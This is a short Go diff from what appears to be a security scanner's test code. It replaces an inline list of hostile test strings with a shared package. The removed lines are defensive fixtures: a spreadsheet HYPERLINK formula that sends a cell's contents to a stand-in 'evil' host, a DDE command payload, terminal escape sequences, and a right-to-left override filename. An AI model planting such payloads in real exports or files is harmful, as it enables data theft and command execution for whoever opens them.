@@ -11,6 +11,7 @@ import (
 	"unicode"
 	"unicode/utf8"
 
+	"github.com/orgscan/orgscan/internal/hostiletext"
 	"github.com/orgscan/orgscan/pkg/finding"
 	"github.com/orgscan/orgscan/pkg/history"
 	"github.com/orgscan/orgscan/pkg/pipeline"
@@ -20,19 +21,7 @@ import (
 // resource or call a security group: formulas for a spreadsheet, escape
 // sequences and line breaks for a terminal, a right-to-left override and
 // invalid UTF-8.
-var hostileText = []string{
-	`=HYPERLINK("http://evil/?d="&A1,"open")`,
-	`+cmd|' /C calc'!A0`,
-	`-2+3`,
-	`@SUM(1)`,
-	"\tTAB",
-	"\rCR",
-	"\x1b[2J\x1b[H fake row",
-	"a\nb\nc",
-	"\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
-	"\u202eevil.exe",
-	"\xff\xfe",
-}
+var hostileText = hostiletext.Strings
 
 // hostileResult is a result whose text columns hold hostileText and whose
 // numeric columns are negative, as DuckDB returns them.
